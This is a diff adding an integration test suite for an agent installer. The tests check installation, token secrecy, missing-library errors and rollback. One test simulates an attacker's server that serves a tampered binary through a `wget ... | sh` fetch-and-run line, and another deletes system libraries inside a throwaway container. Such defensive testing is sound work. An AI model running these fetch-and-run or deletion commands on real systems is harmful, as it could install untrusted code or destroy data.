@@ -1,0 +1,221 @@
+import { once } from 'node:events';
+import { createReadStream } from 'node:fs';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import packageFile from '../../package.json' with { type: 'json' };
+import type { ReleaseManifest } from '../../agent-protocol/release-manifest.ts';
+import { installScript } from '../../api/pages/install-script.ts';
+import { createClient } from '../../cli/client.ts';
+import type { ApiObject, Client } from '../../cli/client.ts';
+import { startBareContainer } from '../harness/bare-container.ts';
+import type { BareContainer } from '../harness/bare-container.ts';
+import { builtRelease, ownPlatform } from '../harness/built-release.ts';
+import type { BuiltRelease } from '../harness/built-release.ts';
+import { freePort, Program } from '../harness/program.ts';
+import { smallRelease } from '../harness/small-release.ts';
+import { until } from '../harness/until.ts';
+
+const { version } = packageFile;
+const home = '/opt/setpoint-agent';
+const settings = '/etc/setpoint/agent.env';
+const identity = '/var/lib/setpoint/agent/identity.json';
+/** Its machines have no engine. */
+const withoutEngine = `mkdir -p /etc/setpoint && echo SETPOINT_RUNTIME=mock >${settings}`;
+
+let release: BuiltRelease;
+let folder: string;
+let server: Program;
+let url: string;
+let client: Client;
+
+beforeAll(async () => {
+  release = await builtRelease();
+  folder = await mkdtemp(join(tmpdir(), 'setpoint-install-'));
+  const listen = `127.0.0.1:${await freePort()}`;
+  url = `http://${listen}`;
+  const flags = ['--listen', listen, '--data', join(folder, 'server'), '--agent-release', release.folder];
+  server = new Program(['server', ...flags], join(folder, 'server.log'));
+  server.start();
+  await server.ready(url);
+  const visitor = createClient({ server: url, tenant: 'default' });
+  const owner = { email: 'owner@example.test', password: 'correct horse battery' };
+  await visitor.request('POST', '/api/v1/auth/register', { ...owner, first_name: 'Olive', last_name: 'Owner' });
+  const login = await visitor.request('POST', '/api/v1/auth/login', owner);
+  client = createClient({ server: url, tenant: 'default', token: z.object({ token: z.string() }).parse(login).token });
+});
+afterAll(async () => {
+  await server.kill();
+  await rm(folder, { recursive: true, force: true });
+});
+
+let made = 0;
+/** A new server, and the command that its creation answers with, for a machine that has wget. */
+async function newServer(): Promise<{ server: ApiObject; command: string; token: string }> {
+  const created = await client.object('POST', '/api/v1/servers', { name: `machine-${(made += 1)}` });
+  const command = String(created['install_command']).replace('curl -fsSL', 'wget -qO-');
+  return { server: created, command, token: String(created['join_token']) };
+}
+
+function connected(id: string): Promise<true> {
+  return until(
+    'the agent is connected',
+    async () => {
+      const it = await client.object('GET', `/api/v1/servers/${id}`);
+      return it['agent_status'] === 'connected' && it.status === 'active';
+    },
+    { explain: () => server.lastOutput() },
+  );
+}
+
+/** A machine in which nothing was installed. */
+const bareMachine = (): Promise<BareContainer> => startBareContainer(release.executable);
+const output = async (machine: BareContainer, line: string): Promise<string> => (await machine.run(line)).stdout.trim();
+
+/** Serves the script of a release and these bytes in place of its executable; `asked` is called before they are sent. */
+async function otherControlPlane(
+  manifest: ReleaseManifest,
+  content: () => NodeJS.ReadableStream | string,
+  asked: () => Promise<void> = async () => undefined,
+): Promise<{ url: string } & AsyncDisposable> {
+  const http = createServer((request, response) => {
+    const own = `http://127.0.0.1:${(http.address() as AddressInfo).port}`; // a TCP server has such an address
+    if (request.url === '/install.sh') {
+      void installScript(manifest, own).then((script) => response.end(script));
+      return;
+    }
+    void asked().then(() => {
+      const bytes = content();
+      if (typeof bytes === 'string') response.end(bytes);
+      else bytes.pipe(response);
+    });
+  });
+  http.listen(0, '127.0.0.1');
+  await once(http, 'listening');
+  return {
+    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`, // as above
+    async [Symbol.asyncDispose]() {
+      http.close();
+      http.closeAllConnections();
+      await once(http, 'close');
+    },
+  };
+}
+
+describe('the command that a new server answers with', () => {
+  it('installs the agent where there is no Node, lets it join, and forgets the token', async () => {
+    await using machine = await bareMachine();
+    await machine.run(withoutEngine);
+    const { server: it, command } = await newServer();
+    const first = await machine.run(command);
+    expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
+    expect(first.stdout).toContain('The agent has joined the control plane');
+    await connected(it.id);
+    expect((await client.object('GET', `/api/v1/servers/${it.id}/agent-status`))['agent_version']).toBe(version);
+    expect((await output(machine, `cat ${settings}`)).split('\n')).toEqual([
+      'SETPOINT_RUNTIME=mock',
+      `SETPOINT_SERVER=${url}/default`,
+    ]);
+    expect(await output(machine, `stat -c %a ${settings} ${identity}`)).toBe('600\n600');
+    expect(await output(machine, 'setpoint-agent --version')).toBe(version);
+
+    // once more: the same agent, the same identity
+    const before = await output(machine, `sha256sum ${identity}; ls ${home}/versions`);
+    const second = await machine.run(command);
+    expect({ code: second.code, stderr: second.stderr }).toEqual({ code: 0, stderr: '' });
+    expect(second.stdout).toContain(`Version ${version} is here already`);
+    expect(second.stdout).not.toContain('Wrote');
+    await connected(it.id);
+    expect(await output(machine, `sha256sum ${identity}; ls ${home}/versions`)).toBe(before);
+    expect(await output(machine, "ps -o args | grep -c '[/]supervise'")).toBe('1');
+  });
+
+  it('installs nothing of what was changed on its way, and shows the token to no other user', async () => {
+    await using machine = await bareMachine();
+    await machine.run(withoutEngine);
+    const { token } = await newServer();
+    let processes = '';
+    const changed = (): NodeJS.ReadableStream => {
+      const bytes = createReadStream(release.executable);
+      bytes.once('data', (chunk) => void ((chunk as Buffer)[1000]! ^= 1)); // the stream has no encoding
+      return bytes;
+    };
+    const asked = async (): Promise<void> => void (processes = await output(machine, 'ps -o args'));
+    await using attacker = await otherControlPlane(release.manifest, changed, asked);
+    const line = `wget -qO- ${attacker.url}/install.sh | SETPOINT_JOIN_TOKEN=${token} sh -s -- --server ${attacker.url}/default`;
+    // from a file: the shell of the test would have the line as its argument
+    await machine.run(`echo '${line}' >/tmp/line`);
+    const ended = await machine.run('sh /tmp/line');
+    expect(ended.code).toBe(1);
+    expect(ended.stderr).toContain('What was fetched is not the agent of this release: its SHA-256 is');
+    expect(await output(machine, `ls -A ${home}/versions/${version}; ls ${home} ${identity}; cat ${settings}`)).toBe(
+      `${home}:\nversions\nSETPOINT_RUNTIME=mock`,
+    );
+    expect(processes).toContain('sh -s -- --server');
+    expect(processes).not.toContain('sj_');
+  });
+
+  it('says which library the machine lacks', async () => {
+    await using machine = await bareMachine();
+    await machine.run(`${withoutEngine}; find / -xdev -name 'libatomic.so*' | xargs rm`);
+    const { command } = await newServer();
+    const ended = await machine.run(command);
+    expect(ended.code).toBe(1);
+    expect(ended.stderr).toContain('libatomic.so.1');
+    expect(ended.stderr).toContain('It needs glibc 2.28 or later, libstdc++ and libatomic');
+    expect(await output(machine, `ls -A ${home}/versions/${version}`)).toBe('');
+  });
+
+  it('says when the agent does not join, and why is in its log', async () => {
+    await using machine = await bareMachine();
+    await machine.run(withoutEngine);
+    const { server: it, command } = await newServer();
+    await client.request('POST', `/api/v1/servers/${it.id}/join-token`, {}); // the token before is void
+    const ended = await machine.run(command.replace('sh -s', "sed 's/^join_seconds=60/join_seconds=0/' | sh -s"));
+    expect(ended.code).toBe(1);
+    expect(ended.stderr).toContain('has not joined within');
+    expect(await output(machine, 'cat /var/log/setpoint-agent.log')).toContain('The control plane refuses this agent');
+  });
+});
+
+describe('a later release', () => {
+  it('that does not connect is left for the one before, by itself', async () => {
+    await using machine = await bareMachine();
+    await machine.run(withoutEngine);
+    const { server: it, command } = await newServer();
+    expect((await machine.run(command)).code).toBe(0);
+    const broken = '#!/bin/sh\n[ "$1" != --version ] || { echo 9.9.9; exit; }\necho cannot start >&2\nexit 1\n';
+    await using later = await smallRelease('9.9.9', { [ownPlatform]: broken });
+    await using other = await otherControlPlane(later.manifest, () => broken);
+    const ended = await machine.run(`wget -qO- ${other.url}/install.sh | sh`);
+    expect(ended.code).toBe(1);
+    expect(ended.stderr).toContain(
+      'Version 9.9.9 did not connect to the control plane, and the version before it runs',
+    );
+    await connected(it.id);
+    expect(await output(machine, `cat ${home}/current ${home}/failed; ls ${home}/versions`)).toBe(
+      `${version}\n9.9.9\n${version}\n9.9.9`,
+    );
+  });
+
+  it('that connects is kept', async () => {
+    await using machine = await bareMachine();
+    await machine.run(withoutEngine);
+    const { server: it, command } = await newServer();
+    expect((await machine.run(command)).code).toBe(0);
+    // as if an earlier version had been installed
+    await machine.run(
+      `cd ${home} && kill $(cat /run/setpoint-agent.pid); sleep 1; mv versions/${version} versions/0.0.9 && echo 0.0.9 >current && rm -f trial`,
+    );
+    const ended = await machine.run(`wget -qO- ${url}/install.sh | sh`);
+    expect({ code: ended.code, stderr: ended.stderr }).toEqual({ code: 0, stderr: '' });
+    await connected(it.id);
+    expect(await output(machine, `cd ${home} && cat current previous && ls`)).toBe(
+      [version, '0.0.9', 'current', 'previous', 'supervise', 'versions'].join('\n'),
+    );
+  });
+});
